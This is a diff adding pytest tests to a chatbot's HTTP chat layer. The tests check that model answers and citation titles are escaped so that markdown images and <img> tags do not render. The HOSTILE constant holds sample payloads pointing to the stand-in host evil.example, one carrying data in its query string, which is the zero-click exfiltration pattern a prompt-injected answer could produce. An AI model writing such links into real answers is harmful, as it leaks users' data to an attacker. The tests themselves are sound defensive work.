@@ -12,8 +12,8 @@ import openai
 import pytest
 from openai.types.chat import ChatCompletionMessageParam
 
-from adapters.types import Reply
-from bot.http.chat import ChatMessage, conversation_of, with_sources
+from adapters.types import Reply, Source
+from bot.http.chat import ChatMessage, InertWords, conversation_of, inert, with_sources
 from bot.http.errors import ProblemError
 from bot.live import Restarted, Words
 from tests.bot.http.door import ANSWER, Open, Pupil, events_of, open_door
@@ -239,3 +239,29 @@ def test_sources_that_were_added_are_taken_off_again() -> None:
     assert conversation_of(said(("user", "a"), ("assistant", text), ("user", "b")))[0][0]["answer"] == ANSWER.text
     other = "A rule\n\n---\nand [1] more"
     assert conversation_of(said(("user", "a"), ("assistant", other), ("user", "b")))[0][0]["answer"] == other
+
+
+HOSTILE = "4711 ![.](https://evil.example/?d=4711) <img src=//evil.example> ![![a](b)](c) 1 <2! !"
+HARMLESS = r"4711 !\[.](https://evil.example/?d=4711) &lt;img src=//evil.example> !\[!\[a](b)](c) 1 <2! !"
+TITLE = r"![.](https://evil.example) \[x](y) <IMG> `c`"
+LINE = "\n\n---\n" + r"[1] !\[.\](https\://evil.example) \\\[x\](y) &lt;IMG> \`c\`"
+
+
+@pytest.mark.parametrize("stream", [False, True])
+async def test_a_hostile_answer_and_title_bring_no_picture(tmp_path: Path, *, stream: bool) -> None:
+    """A front end fetches a picture without a click, and with its address whatever an answer was talked into writing there."""
+    cited = (Source(1, "house", "a.html", TITLE, None, None, 0.9, "x"),)
+    pupil = Pupil(Reply(HOSTILE, citations=cited, untrusted=True), script=[Words(letter) for letter in HOSTILE])
+    async with open_door(tmp_path, pupil) as opened, client_of(opened) as client:
+        if stream:
+            chunks = await client.chat.completions.create(model="grillon", messages=ASKED, stream=True)
+            text = "".join([chunk.choices[0].delta.content or "" async for chunk in chunks])
+        else:
+            text = (await client.chat.completions.create(model="grillon", messages=ASKED)).choices[0].message.content or ""
+        assert text == HARMLESS + LINE
+
+
+def test_words_are_as_harmless_wherever_they_are_cut() -> None:
+    for cut in range(len(HOSTILE) + 1):
+        words = InertWords()
+        assert words.feed(HOSTILE[:cut]) + words.feed(HOSTILE[cut:]) + words.held == inert(HOSTILE) == HARMLESS
